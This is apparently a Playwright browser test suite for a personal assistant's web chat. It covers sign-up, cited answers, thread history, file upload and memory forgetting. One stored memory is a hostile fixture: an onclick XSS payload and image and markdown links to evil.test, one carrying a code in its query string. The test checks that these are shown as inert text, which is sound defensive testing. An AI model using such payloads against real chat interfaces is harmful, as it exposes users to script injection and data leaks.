"""Two journeys through the web chat in a headless Chromium."""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from playwright.async_api import expect

from assistant import auth
from assistant.events import Mode
from assistant.house import House
from assistant.memory.ingest import embed_pending
from assistant.testing import ScriptedBrain

if TYPE_CHECKING:
    from conftest import Visit

pytestmark = pytest.mark.browser
PASSWORD = "correct horse battery"


async def test_from_the_one_time_code_to_the_passage_behind_an_answer(
    house: House, desk: Visit, brain: ScriptedBrain, tmp_path: Path
) -> None:
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "bread.md").write_text(
        "---\ndate: 2024-03-01\n---\n# Sourdough\n\n## Dough\n\nLet the dough rest for twelve hours in the fridge.\n"
    )
    ana = await auth.owner_of_the_folder(house.database, house.settings)
    await house.import_path(ana, notes)
    await house.omac.remember(
        ana,
        "The boiler <b onclick=alert(1)>hums</b> <img src='https://evil.test/a.png'> at 10:30, note:loud. "
        "![x](https://evil.test/b.png?code=8812) [call](https://evil.test/c) it ~2 years, ~3 at most.",
        source="command line",
    )
    await embed_pending(house.omac, ana)
    brain.say("The dough rests twelve hours in the fridge.", mode=Mode.WRITER)
    page = desk.page

    await page.goto(desk.address)
    await expect(page).to_have_url(f"{desk.address}/welcome")
    # The printed address, opened where the page is open already: nothing is loaded anew.
    await page.goto(f"{desk.address}/welcome#code={(await auth.first_code(house.database, house.settings)).lower()}")
    await expect(page.locator("[name=code]")).not_to_have_value("")
    await expect(page).to_have_url(f"{desk.address}/welcome")
    await page.fill("[name=name]", "Ana")
    await page.fill("[name=password]", PASSWORD)
    await desk.shot("desk-welcome")
    await page.get_by_role("button", name="Create account").click()

    await expect(page.get_by_text("What can you do?")).to_be_visible()
    await desk.say("How long must the dough rest?")
    answer = page.locator(".message-content", has_text="twelve hours in the fridge").last
    await expect(answer).to_contain_text("In short: The dough rests twelve hours in the fridge.")
    await expect(page.get_by_text("Look it up in my notes")).to_be_visible()
    await expect(page).to_have_url(re.compile("/thread/"))
    await desk.shot("desk-answer")
    nameless = (
        "[...document.querySelectorAll('button, a[href], input:not([type=file]), textarea')]"
        ".filter((each) => each.offsetParent && !(each.innerText?.trim() || each.getAttribute('aria-label')"
        " || each.title || each.labels?.length || each.querySelector('.sr-only'))).map((each) => each.outerHTML)"
    )
    assert await page.evaluate(nameless) == [], "every button has a name for who hears the page"

    number = answer.locator("a[href^='/passage/']").first
    await number.click()
    drawer = page.locator("#twinning-drawer")
    await expect(drawer.locator("mark")).to_have_text("Let the dough rest for twelve hours in the fridge.")
    await expect(drawer).to_contain_text("bread.md · 1 March 2024")
    await desk.shot("desk-passage")
    await page.keyboard.press("Escape")
    await expect(drawer).not_to_be_visible()
    alone = await page.context.new_page()
    await alone.goto(desk.address + str(await number.get_attribute("href")))
    await expect(alone.locator("mark")).to_have_text("Let the dough rest for twelve hours in the fridge.")
    await alone.close()

    await desk.say("What do you know about the boiler?")
    hostile = page.locator(".message-content", has_text="10:30").last
    await expect(hostile).to_contain_text(
        "<b onclick=alert(1)>hums</b> <img src='https://evil.test/a.png'> at 10:30, note:loud"
    )
    await expect(hostile).to_contain_text(
        "x (picture from evil.test, not shown) call (evil.test) it ~2 years, ~3 at most"
    )
    assert await hostile.locator("img, b, del, [onclick]").count() == 0
    await desk.shot("desk-hostile")

    await page.locator("#user-nav-button").click()
    await page.get_by_text("Sign out").click()
    await expect(page).to_have_url(f"{desk.address}/login")
    await page.fill("[name=username]", "Ana")
    await page.fill("[name=password]", "not the password")
    await page.get_by_role("button", name="Sign in").click()
    await expect(page.get_by_role("alert")).to_have_text("Name and password do not match.")
    await page.fill("[name=password]", PASSWORD)
    await page.get_by_role("button", name="Sign in").click()
    await page.locator("#thread-history").get_by_text("How long must the dough rest?").click()
    await expect(page.locator(".message-content", has_text="In short")).to_be_visible()

    row = page.locator("#thread-history").get_by_text("How long must the dough rest?")
    await row.hover()
    await page.locator("#thread-options").first.click()
    await page.get_by_role("menuitem", name="Rename").click()
    await page.fill("input#name", "Bread")
    await page.keyboard.press("Enter")
    await expect(page.locator("#thread-history").get_by_text("Bread").first).to_be_visible()

    kept = await page.evaluate(
        "async () => (await Promise.all((await caches.keys()).map(async (name) => "
        "(await (await caches.open(name)).keys()).map((each) => new URL(each.url).pathname)))).flat()"
    )
    assert "/offline" in kept
    assert all(re.match(r"/offline$|/public/[\w.-]+$|/assets/", path) for path in kept)
    desk.nothing_left_the_house()


async def test_on_a_phone_a_file_is_dropped_asked_about_and_still_there_after_a_reload(
    house: House, phone: Visit
) -> None:
    code = await auth.first_code(house.database, house.settings)
    await auth.sign_up(house.database, house.settings, code=code, name="Ana", password=PASSWORD)
    page = phone.page

    await page.goto(phone.address)
    await page.fill("[name=username]", "ana")
    await page.fill("[name=password]", PASSWORD)
    await phone.shot("phone-sign-in")
    await page.get_by_role("button", name="Sign in").tap()

    await page.locator("#upload-button").wait_for()
    lease = b"# Lease\n\nThe lease of the flat ends on 31 August 2027. The deposit is 2,400 euros.\n"
    await page.set_input_files(
        "#upload-button-input", files=[{"name": "lease.md", "mimeType": "text/markdown", "buffer": lease}]
    )
    await page.locator("#chat-submit").tap()
    await expect(page.get_by_text("Read into memory: 1 new passage.")).to_be_visible()
    await phone.shot("phone-imported")
    await phone.say("When does the lease end?")
    answer = page.locator(".message-content", has_text="31 August 2027").last
    await expect(answer.locator("a[href^='/passage/']")).to_be_visible()
    await phone.fits()
    await phone.shot("phone-answer")
    await answer.locator("a[href^='/passage/']").first.tap()
    await expect(page.locator("#twinning-drawer mark")).to_contain_text("31 August 2027")
    await phone.shot("phone-passage")
    await page.get_by_label("Close").tap()

    await phone.say("Remember that the garage code is 8812")
    await expect(page.get_by_text("Remembered:").first).to_be_visible()
    await phone.say("forget the garage code")
    choice = page.get_by_role("button", name=re.compile("8812"))
    await expect(choice).to_be_visible()

    await page.reload()
    await expect(page.locator(".message-content", has_text="31 August 2027").last).to_be_visible()
    await expect(page.get_by_text("File: lease.md")).to_be_visible()
    await expect(choice).to_have_count(1)
    await phone.shot("phone-reloaded")
    await choice.tap()
    await expect(page.get_by_text(re.compile("^Forgotten"))).to_be_visible()
    await expect(choice).to_have_count(0)
    phone.nothing_left_the_house()
